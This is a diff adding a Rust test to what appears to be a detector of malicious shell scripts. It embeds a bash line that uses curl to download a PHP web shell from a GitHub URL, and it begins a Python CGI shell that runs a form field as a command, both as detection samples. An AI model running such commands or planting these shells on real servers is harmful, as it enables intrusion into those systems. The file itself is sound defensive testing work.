@@ -313,6 +313,17 @@ fn a_ruby_shell_and_a_bash_shell_on_a_handle_of_its_own_are_found() {
 }
 
 #[test]
+fn a_web_shell_fetched_from_a_paste_site_is_found() {
+    let gecko = "#!/bin/bash\nURL=\"https://raw.githubusercontent.com/someone/kit/refs/heads/main/gecko-new.php\"\n\
+                 curl -s -L -k -o \"tok.php\" \"$URL\"\n";
+    assert_eq!(whys(gecko), [Why::DownloadsProgram]);
+    // Composer's installer from its own site.
+    let composer =
+        "#!/bin/sh\ncurl -sS https://getcomposer.org/installer -o composer-setup.php\nphp composer-setup.php\n";
+    assert!(whys(composer).is_empty(), "{:?}", whys(composer));
+}
+
+#[test]
 fn a_cgi_shell_running_a_field_of_any_name_is_found() {
     // fresh87's Python CGI shell: the command is field "0".
     let python = "#!/usr/bin/python\nimport os, cgi\nparam=cgi.FieldStorage()\ncmd=param.getvalue(\"0\")\n\
